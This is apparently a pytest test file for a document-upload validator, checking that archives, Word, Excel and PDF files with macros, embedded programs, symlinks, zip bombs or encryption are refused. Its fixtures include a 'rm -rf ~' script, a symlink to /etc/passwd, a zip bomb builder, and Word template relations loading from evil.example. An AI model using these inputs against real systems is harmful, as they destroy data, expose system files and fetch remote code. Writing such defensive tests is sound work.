"""Archives hold what may be uploaded by itself; texts, tables and slides hold no programs."""

from __future__ import annotations

import stat
import zipfile
from collections.abc import Callable
from io import BytesIO

import pytest

from practices.files import contents
from practices.files.contents import document_problem
from practices.files.packages import OLE
from practices.files.problems import Problem
from tests.practices.files.test_uploads_by_content import (
    PDF,
    docx,
    package,
    picture,
    with_part,
    xlsx,
)

PROGRAM = b"MZ\x90\0" + b"\0" * 90
RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
)


def zipped(name: str, content: bytes) -> bytes:
    return with_part(package(), name, content)


def with_relation(kind: str, target: str) -> bytes:
    relation = RELATION.format(kind=kind, target=target).encode()
    return with_part(docx(), "word/_rels/settings.xml.rels", relation)


def with_type(content: bytes, kind: str, encoding: str = "utf-8") -> bytes:
    """The same package, declaring one more type of a part."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            data = old.read(name)
            if name == "[Content_Types].xml":
                text = data.decode().partition("?>")[2]
                more = f'<Override PartName="/word/x.dat" ContentType="{kind}"/></Types>'
                data = text.replace("</Types>", more).encode(encoding)
            new.writestr(name, data)
    return out.getvalue()


def link() -> bytes:
    """An archive with a file that leads to another place."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        info = zipfile.ZipInfo("report.txt")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        made.writestr(info, "/etc/passwd")
    return out.getvalue()


def bomb() -> bytes:
    """Tables that each unpack to little and all together to far too much."""
    packed = BytesIO(xlsx())
    with zipfile.ZipFile(packed, "a", zipfile.ZIP_DEFLATED) as made:
        made.writestr("xl/media/a.bin", b"\0" * 4_500_000)
    table = packed.getvalue()
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for number in range(50):
            made.writestr(f"{number}.xlsx", table)
    return out.getvalue()


def nested(depth: int) -> bytes:
    content = docx()
    for _level in range(depth):
        content = with_part(docx(), "word/embeddings/inner.docx", content)
    return content


REFUSED: list[tuple[str, Callable[[], bytes], Problem]] = [
    *(
        ("a.zip", lambda name=name: zipped(name, b"hello"), Problem.WRONG_PART)
        for name in (
            *("a.jnlp", "a.iqy", "a.slk", "a.wsc", "a.sct", "a.application", "a.appref-ms"),
            *("a.library-ms", "a.settingcontent-ms", "a.search-ms", "a.inf", "a.py", "a.xls"),
            *("a.xla", "a.doc", "a.html", "a.svg", "a.csv.lnk2", "noending", ".DS_Store"),
        )
    ),
    ("a.zip", lambda: zipped("run", b"#!/bin/sh\nrm -rf ~\n"), Problem.PROGRAM),
    ("a.zip", lambda: zipped("run.txt", b"#!/bin/sh\nrm -rf ~\n"), Problem.PROGRAM),
    ("a.zip", lambda: zipped("a.pdf", b"no PDF"), Problem.WRONG_PART),
    ("a.zip", lambda: zipped("a.docx", xlsx()), Problem.WRONG_PART),
    ("a.zip", lambda: zipped("a.png", b"no picture"), Problem.WRONG_PART),
    ("a.zip", lambda: zipped("._a.pdf", b"no fork of a Mac"), Problem.WRONG_PART),
    (
        "a.zip",
        lambda: zipped("a.docx", with_part(docx(), "word/vbaProject.bin", b"x")),
        Problem.MACROS,
    ),
    (
        "a.zip",
        lambda: zipped("a.pdf", PDF.replace(b"<<>>", b"<</Encrypt 5 0 R>>")),
        Problem.PROTECTED,
    ),
    ("a.zip", lambda: with_part(zipped("a.txt", b"x"), "A.TXT", b"y"), Problem.PLACE),
    ("a.zip", link, Problem.LINK),
    ("a.zip", bomb, Problem.TOO_MUCH),
    ("a.docx", lambda: nested(5), Problem.ARCHIVE),
    ("a.docx", lambda: with_part(docx(), "word/embeddings/setup.exe", b"x"), Problem.PROGRAM),
    ("a.docx", lambda: with_part(docx(), "word/embeddings/a.bin", PROGRAM), Problem.PROGRAM),
    ("a.docx", lambda: with_part(docx(), "word/media/image9.png", PROGRAM), Problem.PROGRAM),
    ("a.docx", lambda: with_part(docx(), "word/embeddings/a.bin", b"what?"), Problem.EMBEDDED),
    ("a.docx", lambda: with_part(docx(), "word/x.dat", package(a__txt=b"x")), Problem.EMBEDDED),
    ("a.docx", lambda: with_part(docx(), "word/embeddings/a.xlsx", docx()), Problem.EMBEDDED),
    (
        "a.docx",
        lambda: with_part(
            docx(),
            "word/embeddings/o.bin",
            OLE + b"\0" * 99 + "\x01Ole10Native".encode("utf-16-le"),
        ),
        Problem.EMBEDDED,
    ),
    ("a.docx", lambda: with_part(docx(), "word/activeX/activeX1.bin", b"x"), Problem.MACROS),
    ("a.docx", lambda: with_part(docx(), "WORD/VBAPROJECT.BIN", b"x"), Problem.MACROS),
    (
        "a.docx",
        lambda: with_part(docx(), "word/o.bin", OLE + "_VBA_PROJECT".encode("utf-16-le")),
        Problem.MACROS,
    ),
    ("a.xlsx", lambda: with_part(xlsx(), "xl/macrosheets/sheet1.xml", b"<x/>"), Problem.MACROS),
    ("a.docx", lambda: with_type(docx(), "application/vnd.ms-office.vbaProject"), Problem.MACROS),
    (
        "a.docx",
        lambda: with_type(docx(), "application/vnd.ms-excel.MacroSheet+xml", "utf-16"),
        Problem.MACROS,
    ),
    *(
        ("a.docx", lambda kind=kind, target=target: with_relation(kind, target), Problem.LOADS)
        for kind, target in (
            ("attachedTemplate", "http://evil.example/t.dotm"),
            ("attachedTemplate", "file://evil.example/share/t.dotm"),
            ("attachedTemplate", "\\\\evil.example\\share\\t.dotm"),
            ("oleObject", "https://evil.example/x.html!"),
            ("frame", "https://evil.example/"),
        )
    ),
    *(
        ("a.pdf", lambda text=text: PDF.replace(b"<<>>", text), Problem.PROTECTED)
        for text in (
            *(b"<</Encrypt 5 0 R>>", b"<</Encrypt/**/ 5 0 R>>", b"<</Encrypt%\n5 0 R>>"),
            *(b"<</#45ncrypt 5 0 R>>", b"<</Encryp#74<</V 1>>>>", b"(\\)) /Encrypt 5 0 R"),
            b"(a(b)) % (\n<</Encrypt 5 0 R>>",
        )
    ),
]
ACCEPTED: list[tuple[str, Callable[[], bytes]]] = [
    *(
        ("a.pdf", lambda text=text: PDF.replace(b"<<>>", text))
        for text in (
            *(b"(about /Encrypt 5 0 R in PDF)", b"(a \\( b (c) /Encrypt 5 0 R)"),
            *(b"% /Encrypt 5 0 R\n", b"<</EncryptMetadata true>>"),
            b"<<>> stream\n/Encrypt 5 0 R\nendstream",
        )
    ),
    ("a.zip", lambda: zipped("Photos/a.jpeg", picture("JPEG"))),
    ("a.zip", lambda: zipped("a.xlsx", xlsx())),
    ("a.zip", lambda: zipped("empty.txt", b"")),
    ("a.zip", lambda: zipped("__MACOSX/._a.pdf", b"\0\x05\x16\x07" + b"\0" * 90)),
    ("a.zip", lambda: zipped(".DS_Store", b"\0\0\0\x01Bud1" + b"\0" * 90)),
    # The table behind a diagram, an equation, a template on the own machine, a link.
    ("a.docx", lambda: with_part(docx(), "word/embeddings/Table1.xlsx", xlsx())),
    ("a.docx", lambda: with_part(docx(), "word/embeddings/oleObject1.bin", OLE + b"\0" * 99)),
    ("a.docx", lambda: with_relation("attachedTemplate", "file:///C:\\Templates\\Ours.dotx")),
    ("a.docx", lambda: with_relation("hyperlink", "https://www.example.org/")),
    ("a.docx", lambda: nested(1)),
]


@pytest.mark.parametrize(("name", "make", "problem"), REFUSED)
def test_what_holds_anything_else_is_refused_with_a_reason(
    name: str, make: Callable[[], bytes], problem: Problem
) -> None:
    assert document_problem(name, BytesIO(make())) == problem


@pytest.mark.parametrize(("name", "make"), ACCEPTED)
def test_what_people_pack_every_day_is_accepted(name: str, make: Callable[[], bytes]) -> None:
    assert document_problem(name, BytesIO(make())) is None


def test_a_file_in_an_archive_is_no_larger_than_one_by_itself(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    content = package(a__txt=b"x" * 3_000)
    monkeypatch.setattr(contents, "MOST_BYTES", 2_000)
    assert document_problem("a.zip", BytesIO(content)) == Problem.TOO_MUCH
